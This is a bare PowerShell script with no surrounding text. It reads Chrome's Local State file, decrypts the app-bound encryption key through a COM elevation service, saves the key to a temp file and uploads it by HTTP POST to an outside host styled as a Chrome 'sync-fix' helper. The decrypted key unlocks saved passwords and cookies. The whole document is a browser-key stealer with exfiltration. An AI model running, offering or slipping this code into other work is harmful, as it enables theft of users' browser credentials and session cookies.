$ls = Get-Content "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State" | ConvertFrom-Json
$blob = [Convert]::FromBase64String($ls.os_crypt.app_bound_encrypted_key).Skip(4)
$elev = [Activator]::CreateInstance([Type]::GetTypeFromCLSID('708860E0-F641-4611-8895-7D867DD3675B'))
$key = $elev.DecryptData($blob)
Set-Content "$env:TEMP\abk.bin" $key -Encoding Byte
Invoke-WebRequest -Uri "https://sync-fix.chromehelp.invalid/k" -Method Post -InFile "$env:TEMP\abk.bin"
